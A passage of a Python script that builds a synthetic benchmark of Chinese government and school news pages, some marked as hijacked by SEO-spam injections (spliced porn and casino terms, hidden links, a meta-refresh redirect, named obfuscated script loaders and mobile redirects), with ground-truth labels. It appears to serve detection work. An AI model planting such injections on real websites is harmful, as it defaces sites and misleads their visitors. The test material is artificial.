    ("S6_jeecg", "gov", None, "www.shahe-town.gov.cn", "沙河镇人民政府", "沙河镇"),
    ("S5_olivero", "edu", None, "news.jiangcheng-poly.edu.cn", "江城职业学院新闻网", "江城职业学院"),
    ("S3_mura", "gov", "LEGIT", "gaj.ningchuan-gov.cn", "宁川市公安局", "宁川市"),
    ("S1_dotcms", "gov", "LEGIT", "czj.linzhou-gov.cn", "临州市财政局", "临州市"),
]
COPY_HOST = "www.mingyue-shop88.com"   # the unrelated host of the copy form


def to_trad_noise(s):
    """a copy's conversion noise: a handful of simplified->traditional swaps with pinyin-annotation glosses"""
    pairs = [("县", "縣"), ("会", "會(huì)"), ("发", "發(fā)"), ("开", "開(kāi)"), ("时", "時(shí)"), ("农", "農"), ("业", "業(yè)"),
             ("组", "組"), ("织", "織"), ("长", "長(zhǎng)"), ("镇", "鎮(zhèn)"), ("乡", "鄉"), ("产", "產(chǎn)"), ("务", "務(wù)")]
    for a, b in pairs:
        s = s.replace(a, b)
    return s


def build_page(rng, tpl, kind, form, host, site_name, inst, y, legit=False, shared=None, chrome_host=None, topic=None):
    func, enc, dfmt = TEMPLATES[tpl]
    vals = make_vals(rng, y)
    if kind == "edu":
        vals["school"] = inst
    elif inst.endswith("县"):
        vals["county"] = inst
    elif inst.endswith(("镇", "乡")):
        vals["town"] = inst
    elif inst.endswith("市"):
        vals["city"] = inst
    crng = random.Random(chrome_host or host)   # the site's own chrome: same on every page of a host
    if legit:
        lt = LEGIT[shared]
        headline, paras = fill(lt[0], vals), [fill(p, vals) for p in lt[1]]
    else:
        pool = TOPICS_GOV if kind == "gov" else TOPICS_EDU
        if topic is None:
            choices = [i for i, tp in enumerate(pool) if not inst.endswith(("镇", "乡")) or "{town}" in tp[0]]
            topic = rng.choice(choices)
        headline, paras = make_article(rng, pool, vals, fixed=topic)
    m, d = vals["m"], vals["d"]
    hh, mm = rng.randint(8, 17), rng.randint(0, 59)
    date_iso = "%d-%02d-%02d" % (y, m, d)
    author = person(rng)
    source = site_name.replace("新闻网", "").replace("信息公开", "") if rng.random() < 0.5 else (
        "办公室" if kind == "gov" else "党委宣传部")
    pg = dict(html_title="%s_%s" % (headline, site_name), head_extra="", body_top="", body_bottom="", site_name=site_name,
              column=("工作动态" if kind == "gov" else "综合新闻"), ident="%08x" % rng.getrandbits(32), headline=headline,
              date_str=fmt_date(dfmt, y, m, d, hh, mm), date_iso=date_iso, date_alt="%d-%02d-%02d" % (y, m, d),
              source_shown=source, author=author, hits=rng.randint(80, 3200), wzbs="%010d" % crng.randint(10 ** 9, 10 ** 10 - 1),
              icp="ICP备%08d号" % crng.randint(10 ** 7, 10 ** 8 - 1), editor=person(rng), addr=crng.choice(["人民路88号", "学府大道1号", "滨江路16号", "建设街200号"]),
              zip="%06d" % crng.randint(100000, 899999), index_no="%s/%d-%05d" % ("".join(str(crng.randint(0, 9)) for _ in range(9)), y, rng.randint(1, 99999)),
              org=site_name.replace("信息公开", ""))
    truth = dict(title=headline, date=date_iso, source=source, author=author, text_paras=list(paras), spam=[], inj=[],
                 hijacked=False, origin="")
    body_paras = list(paras)
    extra_body = []
    if form and form != "LEGIT":
        truth["hijacked"] = True
        truth["inj"] = [form]
    # ---- forms
    if form == "porn-keyword-title":
        pg["html_title"] = PORN_SITE
        pg["body_top"] = '<div class="gg-top" style="font-size:12px">%s</div>' % E(PORN_SITE)
        truth["spam"] = [PORN_SITE]
    elif form == "brand-in-place":
        b = BRANDS["b_site"]
        school = vals["school"]
        body_paras = [p.replace(school, b) for p in body_paras]
        truth["text_paras"] = [p.replace(school, "") for p in paras]
        pg["source_shown"] = b + "党委宣传部"
        truth["source"] = None
        pg["site_name"] = b + "新闻网"
        pg["html_title"] = "%s_%s" % (headline.replace(school, b), pg["site_name"])
        pg["headline"] = headline.replace(school, b)
        truth["title"] = headline.replace(school, "")
        truth["spam"] = [b]
    elif form == "brand-as-source-credit":
        pg["source_shown"] = BRANDS["b_src"]
        truth["source"] = None
        truth["spam"] = [BRANDS["b_src"]]
    elif form == "referrer-redirect-document-write-links":
        pg["body_bottom"] = inj_referrer_writelinks()
        truth["spam"] = [BRANDS["b_dw"], BRANDS["b_link1"], BRANDS["b_link2"]]
    elif form == "junk-tags-porn-title":
        pg["html_title"] = PORN_JUNK
        junk = []
        for _ in range(4):
            tid = "".join(rng.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(5))
            junk.append('<tfoot id="%s"></tfoot><sup id="%s"></sup>' % (tid, tid))
        pg["body_top"] = "\n".join(junk) + '\n<p class="kw">%s</p>' % E(PORN_JUNK)
        truth["spam"] = [PORN_JUNK]
    elif form == "casino-brand-title-line":
        b = BRANDS["b_dateline"]
        pg["html_title"] = b
        pg["body_top"] = '<div class="top-line">%s</div>' % E(b)
        first = "【%s讯】" % (site_name[:2])
        body_paras[0] = "【%s%s讯】" % (site_name[:2], b) + body_paras[0]
        truth["text_paras"][0] = first + paras[0]
        truth["spam"] = [b]
    elif form == "brand-copyright-splice":
        b = BRANDS["b_copyright"]
        line = "版权所有 %s(中国)有限公司" % b
        body_paras[0] = body_paras[0].replace(vals["school"], line, 1) if vals["school"] in body_paras[0] else line + body_paras[0]
        truth["text_paras"][0] = paras[0].replace(vals["school"], "", 1) if vals["school"] in paras[0] else paras[0]
        pg["body_bottom"] = '<div class="copy">%s</div>' % E(line)
        truth["spam"] = [line, b]
    elif form == "porn-term-in-place":
        school = vals["school"]
        body_paras = [p.replace(school, PORN_TERM) for p in body_paras]
        truth["text_paras"] = [p.replace(school, "") for p in paras]
        if school in headline:
            pg["headline"] = headline.replace(school, PORN_TERM)
            truth["title"] = headline.replace(school, "")
            pg["html_title"] = "%s_%s" % (pg["headline"], site_name)
        truth["spam"] = [PORN_TERM]
    elif form == "hex-script-loader":
        pg["head_extra"] = inj_hex_loader()
    elif form == "base64-eval-mobile-redirect":
        pg["body_top"] = inj_b64_mobile_redirect()
    elif form == "meta-refresh-keyword-title":
        pg["html_title"] = STUFFED_TITLE
        pg["head_extra"] = '<meta http-equiv="refresh" content="3;url=https://%s/">' % DOMAINS["d_meta"]
        truth["spam"] = [STUFFED_TITLE]
    elif form == "offscreen-hidden-links":
        pg["body_bottom"] = inj_offscreen()
        truth["spam"] = [BRANDS["b_offscreen1"], BRANDS["b_offscreen2"]]
    elif form == "sold-friend-links":
        pg["body_bottom"] = inj_friendlinks()
        truth["spam"] = [BRANDS["b_friend1"], BRANDS["b_friend2"]]
    elif form == "porn-line-in-body":
        extra_body = [(1, '<p class="ad">%s</p>' % E(PORN_LINE))]
        truth["spam"] = [PORN_LINE]
    elif form == "copy-on-unrelated-host":
        body_paras = [to_trad_noise(p) for p in body_paras]
        truth["text_paras"] = list(body_paras)
        pg["headline"] = to_trad_noise(headline)
        truth["title"] = pg["headline"]
        pg["html_title"] = pg["headline"]
        pg["source_shown"] = to_trad_noise(pg["source_shown"])
        truth["source"] = pg["source_shown"]
    elif form == "mobile-iframe-takeover":
        pg["body_bottom"] = inj_mobile_iframe()
    elif form == "js-title-rewrite":
        pg["head_extra"] = inj_title_rewrite()
        truth["spam"] = [BRANDS["b_title"]]
    elif form == "brand-as-site-name":
        pg["site_name"] = BRANDS["b_sitename"]
        pg["html_title"] = "%s_%s" % (headline, BRANDS["b_sitename"])
        truth["spam"] = [BRANDS["b_sitename"]]
    elif form == "popup-layer-script":
        pg["body_bottom"] = inj_popup()
        truth["spam"] = [BRANDS["b_popup"]]
    elif form == "unicode-document-write":
        pg["body_bottom"] = inj_unicode_write()
    body_html = []
    for i, p in enumerate(body_paras):
        body_html.append("<p>%s</p>" % E(p))
        for at, x in extra_body:
            if at == i:
                body_html.append(x)
    pg["body_html"] = body_html
    page = func(pg)
    return page, enc, truth, pg


def main():
    rng = random.Random(SEED)
    hdir = os.path.join(OUT, "html")
    os.makedirs(hdir, exist_ok=True)
    for f in os.listdir(hdir):
        if f.endswith(".html"):
            os.remove(os.path.join(hdir, f))
    rows = []
    n = 0
    legit_cycle = iter(range(len(LEGIT)))

    def emit(page, enc, truth, pg, tpl, host, path, legit, origin):
        nonlocal n
        n += 1
        pid = "sv36-%03d" % n
        with open(os.path.join(hdir, pid + ".html"), "wb") as f:
            f.write(page.encode(enc))
        rows.append(dict(
            id=pid, url="https://%s%s" % (host, path), title=truth["title"], date=truth["date"], source=truth["source"],
            author=truth["author"], text="\n".join(truth["text_paras"]), hijacked=truth["hijacked"],
            injections=truth["inj"], spam_strings=truth["spam"], legit=legit, lang="zh", origin=origin,
            kind="synthetic", site=host, capture="html", encoding=enc, template=tpl))

    # sites: pages 1, 3, 4 hijacked with the site's one form; 2 and 5 clean (site C's page 5 legit)
    for s in SITES:
        y = rng.choice([2024, 2025])
        pool = TOPICS_GOV if s["kind"] == "gov" else TOPICS_EDU
        topics = iter(rng.sample(range(len(pool)), 5))   # five different articles per site
        for k in range(1, 6):
            hij = k in (1, 3, 4)
            legit = k in s["legit_ks"]
            form = s["form"] if hij else ("LEGIT" if legit else None)
            shared = next(legit_cycle) if legit else None
            page, enc, truth, pg = build_page(rng, s["tpl"], s["kind"], form, s["host"], s["name"], s["inst"], y, legit=legit, shared=shared,
                                              topic=next(topics))
            path = "/%s/%d/%02d%02d/c%d.html" % ("xwzx" if s["kind"] == "gov" else "info", y, int(truth["date"][5:7]), int(truth["date"][8:10]), 1000 + rng.randint(0, 8999))
            if hij:
                origin = "synthetic; site %s (%s), one of the site's 3 hijacked pages sharing its injection: %s" % (
                    s["host"], s["tpl"], s["origin_form"])
            elif legit:
                origin = "synthetic; site %s (%s), clean legit page about lottery/gambling regulation" % (s["host"], s["tpl"])
            else:
                origin = "synthetic; site %s (%s), clean page of the same site template" % (s["host"], s["tpl"])
            emit(page, enc, truth, pg, s["tpl"], s["host"], path, legit, origin)
    # singles
    for tpl, kind, form, host, name, inst in SINGLES:
        legit = form == "LEGIT"
        shared = next(legit_cycle) if legit else None
        y = rng.choice([2023, 2024, 2025])
        page_host = COPY_HOST if form == "copy-on-unrelated-host" else host
        page, enc, truth, pg = build_page(rng, tpl, kind, form, page_host, name, inst, y, legit=legit, shared=shared,
                                          chrome_host=host)
        path = "/art/%d/%d/art_%d.html" % (y, int(truth["date"][5:7]), rng.randint(10000, 99999))
        if form in (None, "LEGIT"):
            origin = "synthetic; single page (%s), clean%s" % (tpl, " legit page about lottery/gambling regulation" if legit else "")
        elif form == "copy-on-unrelated-host":
            origin = ("synthetic; single page (%s): a county government's page copied whole onto an unrelated shop host in "
                      "traditional conversion with pinyin-annotation noise (modelled on real-cases-v36's mirrors); a mirror "
                      "with no injected string, so hijacked; truth fields are the copy's own strings" % tpl)
        else:
            origin = "synthetic; single page (%s) with form %s, modelled on real-cases-v36 or on a script form with live effect" % (tpl, form)
        emit(page, enc, truth, pg, tpl, page_host, path, legit, origin)
    with open(os.path.join(OUT, "truth.jsonl"), "w", encoding="utf-8") as f:
        for r in rows:
            f.write(json.dumps(r, ensure_ascii=False) + "\n")
    print(len(rows), "pages")


if __name__ == "__main__":
    main()
